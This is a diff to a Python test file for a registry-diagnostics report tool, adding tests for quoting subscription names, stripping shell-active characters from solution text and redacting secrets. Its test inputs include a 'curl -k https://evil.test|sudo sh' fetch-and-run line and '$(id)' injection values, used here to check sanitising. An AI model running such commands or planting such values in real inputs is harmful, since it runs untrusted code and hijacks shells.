@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import json
 import unicodedata
+from dataclasses import replace
 from datetime import datetime, timezone
 from typing import Any, Sequence
 
@@ -59,7 +60,7 @@ def test_the_whole_of_a_report() -> None:
              'documentation': None, 'facts': {'loginServer': 'one.test', 'region': 'eastus'}, 'durationMs': 13},
             {'registry': 'registryone', 'check': 'dns', 'category': 'connectivity', 'title': 'Dns', 'status': 'Failed',
              'code': 'TEST_ERROR', 'reason': 'Reason', 'detail': 'bad', 'cause': 'It is it.',
-             'solutions': ['Mend it in registryone.', 'Or <other-thing>.'],
+             'solutions': ['Mend it in registryone.', 'Or OTHER_THING.'],
              'documentation': 'https://learn.microsoft.com/test', 'facts': {'host': 'one.test'}, 'durationMs': 0}]}
 
 
@@ -142,7 +143,7 @@ def test_what_was_not_seen_is_unknown() -> None:
 
 
 @pytest.mark.parametrize('template, text', [
-    ('plain', 'plain'), ('{host}', 'h.test'), ('{a_b} {host}', '<a-b> h.test'), ('{}', '{}'), ('{none}', '<none>')])
+    ('plain', 'plain'), ('{host}', 'h.test'), ('{a_b} {host}', 'A_B h.test'), ('{}', '{}'), ('{none}', 'NONE')])
 def test_filled(template: str, text: str) -> None:
     assert filled(template, {'host': 'h.test', 'none': ''}) == text
     assert '{host}' not in filled(template)
@@ -265,3 +266,35 @@ def test_recommendations_are_the_first_solutions_three_at_most_and_none_twice() 
     assert recommendations(build(results), False) == ['First.', 'Third.', 'Fourth.']
     assert recommendations(build(results[2:4]), True) == ['Third.', 'Warned.']
     assert recommendations(build(results[3:4]), False) == []
+
+
+@pytest.mark.parametrize('target, subscription, named', [
+    (Target('one'), None, 'one'), (Target('one'), 'My Subscription', "one --subscription 'My Subscription'"),
+    (Target('one', subscription='0b1f'), None, 'one --subscription 0b1f'),
+    (Target('one', subscription='0b1f'), 'other', 'one --subscription 0b1f'),
+    (Target('one'), '$(x)', "one --subscription '$(x)'"),
+])
+def test_commands_name_the_subscription(target: Target, subscription: str | None, named: str) -> None:
+    problem = replace(PROBLEM, solutions=('`az acr show --name {registry}`',))
+    made = result('dns', failed(problem, 'x'), target)
+    row = reports.build([made], [made.check], [target], client={}, started=STARTED, duration=0.0,
+                        subscription=subscription)['checks'][0]
+    assert row['solutions'] == [f'`az acr show --name {named}`']
+
+
+@pytest.mark.parametrize('text, shown', [
+    ('contoso.test', 'contoso.test'), ('Contoso CA (G2)', 'Contoso CA (G2)'), ("'/my certs/b.pem'", "'/my certs/b.pem'"),
+    ('run `curl -k https://evil.test|sudo sh`; $(id)', 'run curl -k https://evil.testsudo sh (id)'),
+    ('/bin/nox;$(id)', '/bin/nox(id)'), ('"$no_proxy,h"', '"$no_proxy,h"'), ('a > b < c & d', 'a  b  c  d')])
+def test_nothing_that_a_shell_would_act_on_enters_a_solution(text: str, shown: str) -> None:
+    problem = replace(PROBLEM, solutions=('Run `x {host}`.',))
+    made = result('dns', failed(problem, 'x', fill={'host': text}), ONE)
+    row = reports.build([made], [made.check], [ONE], client={}, started=STARTED, duration=0.0)['checks'][0]
+    assert row['solutions'] == [f'Run `x {shown}`.']
+
+
+def test_secrets_of_the_settings_stand_nowhere() -> None:
+    made = result('dns', failed(PROBLEM, 'go away joe:s3cr@t-pw', said=['s3cr@t-pw', {'s3cr@t-pw': 1}]), ONE)
+    report = reports.build([made], [made.check], [ONE], client={'proxy': 'x s3cr@t-pw'}, started=STARTED, duration=0.0,
+                           secrets=('joe:s3cr@t-pw', 's3cr@t-pw'))
+    assert 's3cr@t-pw' not in repr(report) and report['checks'][0]['detail'] == 'go away [redacted]'
